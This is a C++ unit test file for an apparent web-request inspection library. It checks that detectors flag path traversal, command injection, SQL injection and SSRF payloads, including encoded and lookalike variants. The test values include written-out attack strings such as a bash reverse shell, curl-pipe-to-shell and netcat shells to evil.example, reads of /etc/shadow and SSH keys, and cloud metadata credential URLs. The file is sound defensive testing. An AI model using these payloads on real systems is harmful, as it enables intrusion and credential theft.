// Detectors: each catches the payloads attackers send, in their usual
// encodings, and stays quiet on ordinary values that look alike.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "fnguard/inspect/detectors.h"

namespace fnguard::inspect {
namespace {

std::vector<Match> scan(const std::string& v, bool prefilter = true) {
  std::vector<Match> out;
  ScanOptions o;
  o.prefilter = prefilter;
  scan_value(v, o, out);
  return out;
}

bool detects(const std::string& v, Detector d) {
  for (bool prefilter : {true, false}) {
    bool found = false;
    for (const Match& m : scan(v, prefilter)) found |= m.detector == d;
    if (!found) return false;
  }
  return true;
}

std::string names(const std::string& v) {
  std::string s;
  for (const Match& m : scan(v)) s += std::string(m.rule) + " ";
  return s;
}

void expect_detects(Detector d, std::initializer_list<const char*> values) {
  for (const char* v : values) EXPECT_TRUE(detects(v, d)) << detector_name(d) << " missed: " << v;
}

void expect_clean(std::initializer_list<const char*> values) {
  for (const char* v : values)
    EXPECT_TRUE(scan(v).empty()) << "false positive on \"" << v << "\": " << names(v);
}

TEST(InspectDetectors, PathTraversal) {
  expect_detects(Detector::kPathTraversal,
                 {
                     "../../../../etc/passwd",
                     "..\\..\\..\\windows\\win.ini",
                     "/etc/passwd",
                     "/proc/self/environ",
                     "file:///etc/shadow",
                     "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                     "%252e%252e%252fetc%252fpasswd",
                     "..%c0%af..%c0%afetc/passwd",
                     "....//....//etc/passwd",
                     "images/../../../var/task/app.py",
                     "/proc/1/cmdline",
                     "php://filter/convert.base64-encode/resource=index.php",
                     "C:\\Windows\\System32\\drivers\\etc\\hosts",
                     "..%5c..%5cboot.ini",
                     "/home/user/.ssh/id_rsa",
                     "../.env",
                     "%u002e%u002e%u2215etc%u2215passwd",
                 });
}

TEST(InspectDetectors, CommandInjection) {
  expect_detects(Detector::kCommandInjection, {
                                                  "127.0.0.1; cat /etc/passwd",
                                                  "x | id",
                                                  "a && whoami",
                                                  "`id`",
                                                  "$(curl http://evil.example/x.sh|sh)",
                                                  "; /bin/sh -i",
                                                  "cat${IFS}/etc/passwd",
                                                  "file.txt\nls -la",
                                                  "a;sleep 5",
                                                  "|| ping -c 3 evil.example",
                                                  "%3Bcat%20%2Fetc%2Fpasswd",
                                                  "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                                                  "x;{cat,/etc/passwd}",
                                                  "a|nc -e /bin/sh evil.example 4444",
                                                  "; python3 -c 'import os'",
                                              });
}

TEST(InspectDetectors, SqlInjection) {
  expect_detects(Detector::kSqlInjection, {
                                              "' OR 1=1--",
                                              "admin'--",
                                              "1' or '1'='1",
                                              "1 OR 1=1",
                                              "' UNION SELECT username, password FROM users--",
                                              "1 union all select null,null",
                                              "x'; DROP TABLE users;--",
                                              "1' AND SLEEP(5)#",
                                              "'; WAITFOR DELAY '0:0:5'--",
                                              "1; select pg_sleep(5)",
                                              "' or ''='",
                                              "\" or \"\"=\"",
                                              "1/**/UNION/**/SELECT/**/1",
                                              "' or true--",
                                              "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
                                              "' order by 3--",
                                              "x' and extractvalue(1,concat(0x7e,version()))--",
                                              "%27%20OR%201%3D1--",
                                              "admin' #",
                                          });
}

TEST(InspectDetectors, Ssrf) {
  expect_detects(Detector::kSsrf,
                 {
                     "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                     "http://metadata.google.internal/computeMetadata/v1/",
                     "http://[fd00:ec2::254]/latest/meta-data/",
                     "http://localhost:8080/admin",
                     "http://127.0.0.1/",
                     "http://[::1]:22/",
                     "http://0.0.0.0/",
                     "http://2852039166/",
                     "http://0xa9fea9fe/",
                     "http://0251.0376.0251.0376/",
                     "http://127.1/",
                     "http://10.0.0.5/internal",
                     "https://192.168.1.1/",
                     "http://172.16.3.4:9200/_search",
                     "gopher://127.0.0.1:6379/_FLUSHALL",
                     "http://user@169.254.169.254/",
                     "http://169.254.169.254.nip.io/",
                     "169.254.169.254",
                     "localhost",
                     "127.0.0.1:6379",
                     "http://[::ffff:127.0.0.1]/",
                     "http%3A%2F%2F169.254.169.254%2Flatest",
                     "http://localtest.me/",
                     "dict://0:11211/stat",
                 });
}

TEST(InspectDetectors, OrdinaryValuesThatLookAlikeStayQuiet) {
  expect_clean({
      "O'Brien",
      "SELECT a plan",
      "Select your plan or upgrade",
      "docs/2024/report.pdf",
      "https://example.com/search?q=shoes",
      "Tom & Jerry",
      "rock && roll",
      "salt; pepper",
      "It's 5 o'clock",
      "I'd like 'tea' or 'coffee'",
      "https://aws.amazon.com/",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
      "Safari/537.36",
      "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
      "gzip, deflate, br",
      "en-US,en;q=0.5",
      "Root=1-5e1b4151-5ac6c58f3b0c4e8ca6b2d2a4;Parent=53995c3f42cd8ad8;Sampled=1",
      "10.0.0.5",
      "2852039166",
      "the union of two sets",
      "cats & dogs",
      "Fish; chips & peas",
      "price >= 10 and <= 20",
      "a-b_c.d",
      "user@example.com",
      "+1 (555) 123-4567",
      "C'est la vie",
      "Meeting; update the doc",
      "version 1.2.3",
      "see docs/../README",
      "#hashtag -- note",
      "x=1&y=2",
      "ls",
      "sleep well; dream",
      "2024-05-01T10:00:00Z",
      "{\"a\":1}",
      "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
      "100%",
      "50% off -- today only",
      "https://api.github.com/repos/o/r",
      "/api/v1/users/42",
      "/static/css/site.css",
  });
}

TEST(InspectDetectors, EvidenceIsAShortPrintableExcerpt) {
  std::string v =
      std::string(200, 'a') + "' UNION SELECT password FROM users" + std::string(200, 'b') + "\x01";
  std::vector<Match> m = scan(v);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].detector, Detector::kSqlInjection);
  EXPECT_STREQ(m[0].rule, "sqli.union_select");
  EXPECT_LE(m[0].evidence.size(), kMaxEvidence);
  EXPECT_NE(m[0].evidence.find("UNION SELECT"), std::string::npos) << m[0].evidence;
}

TEST(InspectDetectors, EncodedPayloadIsReportedAsDecoded) {
  std::vector<Match> m = scan("%252e%252e%252f%252e%252e%252fetc%252fpasswd");
  ASSERT_FALSE(m.empty());
  EXPECT_TRUE(m[0].decoded);
  EXPECT_NE(m[0].evidence.find("../"), std::string::npos);
}

// A value with JSON escapes still in it: a JSON body sent under another
// content type, or with NaN or a lone surrogate (Python's and Node's parsers
// accept both; a strict parser does not), reaches the detectors as text.
TEST(InspectDetectors, JsonEscapesDoNotHideAPayload) {
  expect_detects(Detector::kPathTraversal,
                 {R"({"file":"\u002fetc\u002fpasswd"})", R"({"n":"\ud800","f":"\/etc\/passwd"})",
                  R"(\u002e\u002e\u002f\u002e\u002e\u002fetc/passwd)",
                  // percent inside JSON escapes, and the other way round
                  R"(%5Cu002fetc%5Cu002fpasswd)", R"(\u0025\u0032\u0065\u0025\u0032\u0065/etc)"});
  expect_detects(Detector::kCommandInjection, {R"({"host":"127.0.0.1\u003b id -a"})",
                                               R"({"host":"127.0.0.1\ncat /etc/passwd"})"});
  expect_detects(Detector::kSqlInjection, {R"({"q":"1\u0027 OR \u00271\u0027=\u00271"})"});
  expect_detects(Detector::kSsrf, {R"({"u":"http:\/\/169.254.169.254\/latest"})"});
  std::vector<Match> m = scan(R"({"file":"\u002fetc\u002fpasswd"})");
  ASSERT_EQ(m.size(), 1u);
  EXPECT_TRUE(m[0].decoded);
  EXPECT_NE(m[0].evidence.find("/etc/passwd"), std::string::npos) << m[0].evidence;
  // Escapes that decode to nothing suspicious stay quiet, and so do Windows
  // paths and escaped quotes in ordinary text.
  expect_clean({R"({"name":"Zo\u00eb","note":"caf\u00e9 \"au lait\""})",
                R"(C:\Users\new folder\report.txt)", R"(line one\nline two\ttabbed)",
                R"(\ud83d\ude00 \ud800 done)"});
}

// A command word before a closing quote is ordinary text ("Dog & Cat",
// CSV fields); a review found a rule for JSON text that flagged them.
TEST(InspectDetectors, AWordBeforeAClosingQuoteIsNoCommand) {
  expect_clean({R"("Dog & Cat")", R"("Search & Find")", R"("ok; more")",
                R"("Tom","Dog & Cat","Place & Time")"});
  // The English-word commands count only as a Linux shell runs them, in
  // lower case: "Dog & Cat" is a name, "127.0.0.1 & cat" an injection.
  expect_clean({"Dog & Cat", "Search & Find", "Salt; Time", "Q&A | More"});
  expect_detects(Detector::kCommandInjection, {"127.0.0.1 & cat", "x; id", "a | more /etc/passwd"});
}

TEST(InspectDetectors, PathsWithEmptyAndDotSegmentsAreTheSameFile) {
  expect_detects(Detector::kPathTraversal,
                 {"/etc//passwd", "/etc/./passwd", "/etc/x/../passwd", "//etc///shadow",
                  "/proc/./self//environ", "%2fetc%2f%2fpasswd"});
  expect_clean({"/home/user/docs//notes.txt", "a/./b/../c", "https://example.com//static/app.js"});
}

TEST(InspectDetectors, UrlsThatWhatwgParsersReadAsLoopbackOrMetadata) {
  expect_detects(Detector::kSsrf,
                 {
                     "http:\\\\127.0.0.1\\admin",
                     "http:/127.0.0.1/admin",
                     "http:127.0.0.1/admin",
                     "HTTPS:\\/169.254.169.254/latest/meta-data",
                     "ws:///localhost:8080/",
                     "http://127\xe3\x80\x82"
                     "0\xe3\x80\x82"
                     "0\xe3\x80\x82"
                     "1/",
                     "http://\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1/",
                     "http://\xef\xbc\x91\xef\xbc\x96\xef\xbc\x99.254.169.254/",
                     "http://\xef\xbd\x8c\xef\xbd\x8f\xef\xbd\x83\xef\xbd\x81"
                     "\xef\xbd\x8c\xef\xbd\x88\xef\xbd\x8f\xef\xbd\x93\xef\xbd\x94/",
                 });
  // More of what IDNA folds (found by a review): circled letters,
  // superscript digits, mathematical bold digits.
  expect_detects(
      Detector::kSsrf,
      {"http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/",
       "http://\u00b9\u2076\u2079.\u00b2\u2075\u2074.\u00b9\u2076\u2079.\u00b2\u2075\u2074/latest/",
       "http://\U0001d7cf\U0001d7d0\U0001d7d5.0.0.1/"});
  expect_clean({"http:example.com", "see https:/www.example.org/page", "ratio http:80",
                "\u2018quoted\u2019 \u201cprose\u201d \u2014 with dashes \u00e9\u00e8 \u00b2 m",
                "\xe6\x9d\xb1\xe4\xba\xac\xe3\x80\x82\xe5\xa4\xa7\xe9\x98\xaa\xe3\x80\x82",
                "scheme myhttp:/127.0.0.1 is not special"});
}

// Found by the differential fuzz target: a JSON escape that decodes to a
// fullwidth slash put non-ASCII into the decoded value only, and the
// look-alike fold was gated on the original value's classes.
TEST(InspectDetectors, PrefilterFindsTheSameAfterDecodingToNonAscii) {
  for (const char* v : {R"(FF:/\uFF0F0../F#:/h)", R"(http:\uFF0F\uFF0F127.0.0.1/)"}) {
    std::string with, without;
    for (const Match& m : scan(v, true)) with += std::string(m.rule) + " ";
    for (const Match& m : scan(v, false)) without += std::string(m.rule) + " ";
    EXPECT_EQ(with, without) << v;
  }
  EXPECT_TRUE(detects(R"(http:\uFF0F\uFF0F127.0.0.1/)", Detector::kSsrf));
}

TEST(InspectDetectors, DetectorSetLimitsWhatRuns) {
  std::vector<Match> out;
  ScanOptions o;
  o.detectors = detector_bit(Detector::kSsrf);
  scan_value("../../etc/passwd", o, out);
  EXPECT_TRUE(out.empty());
  EXPECT_EQ(parse_detector("sql_injection").value(), Detector::kSqlInjection);
  EXPECT_FALSE(parse_detector("xss").ok());
}

TEST(InspectDetectors, LongHostileValuesFinishAndStayLinear) {
  // Many separators and quotes: each check is bounded, nothing is quadratic in
  // a way that matters at this size (the fuzz target covers the rest).
  std::string v;
  for (int i = 0; i < 20000; ++i) v += "';|&../%2";
  v += " x' OR 1=1--";
  std::vector<Match> out;
  scan_value(v, ScanOptions{}, out);
  bool sql = false;
  for (const Match& m : out) sql |= m.detector == Detector::kSqlInjection;
  EXPECT_TRUE(sql);
}

TEST(InspectDetectors, PathologicalRepetitionsStayLinear) {
  // Each pattern repeated to 1 MB: a check that searched the rest of the
  // value from every occurrence would not finish (the test would time out).
  // The second row came from a review: runs of slashes (each rescanning the
  // run for "//" and "./"), and "http:" or "ws:" repeated (each colon a
  // special-scheme URL whose authority ran to the end of the value) took
  // seconds at 200 KB and timed a function out at 1 MB.
  for (const char* unit :
       {"'/*",  "' or '", "\" or \"", "://",  ";;;",   "${",  "$(",        "union ",  "'))))",
        "/../", "`",      "%2",       "'||'", "/**/",  "a:",  "..;",       "' and (", "&&x",
        "/",    "\\",     "\\/",      "./",   "http:", "ws:", "http://a@", "%2f",     "http:\\a"}) {
    std::string v;
    while (v.size() < (1u << 20)) v += unit;
    v += " x' OR 1=1--";
    std::vector<Match> out;
    scan_value(v, ScanOptions{}, out);
    bool sql = false;
    for (const Match& m : out) sql |= m.detector == Detector::kSqlInjection;
    EXPECT_TRUE(sql) << unit;
  }
}

}  // namespace
}  // namespace fnguard::inspect

namespace fnguard::inspect {
namespace {

// Numeric tautologies without SQL punctuation ("1 or 1", "1||1") were found
// only with the prefilter off: the check was behind the '=' '(' '#' class.
// The differential fuzz target found it; `detects` requires both modes.
TEST(InspectDetectors, NumericTautologyWithoutPunctuationWithAndWithoutPrefilter) {
  expect_detects(Detector::kSqlInjection, {"1 or 1", "1||1", "5 and 1", "-1 OR true"});
  expect_clean({"1 orange", "2 and a half", "10 or so"});
}

// Long values take the vector class pass (64 bytes and more); the same
// payloads must be found where they sit in such a value.
TEST(InspectDetectors, LongValuesAreScannedLikeShortOnes) {
  const std::string pad(200, 'a');
  expect_detects(Detector::kPathTraversal, {(pad + "/../../etc/passwd").c_str()});
  expect_detects(Detector::kCommandInjection, {(pad + ";cat /etc/passwd").c_str()});
  expect_detects(Detector::kSqlInjection, {(pad + "' UNION SELECT password FROM users--").c_str()});
  expect_detects(Detector::kSsrf, {(pad + " http://169.254.169.254/latest/meta-data/").c_str()});
  const std::string high = std::string(100, '\xc3') + "\xa9 ../../etc/shadow";
  expect_detects(Detector::kPathTraversal, {high.c_str()});
}

}  // namespace
}  // namespace fnguard::inspect
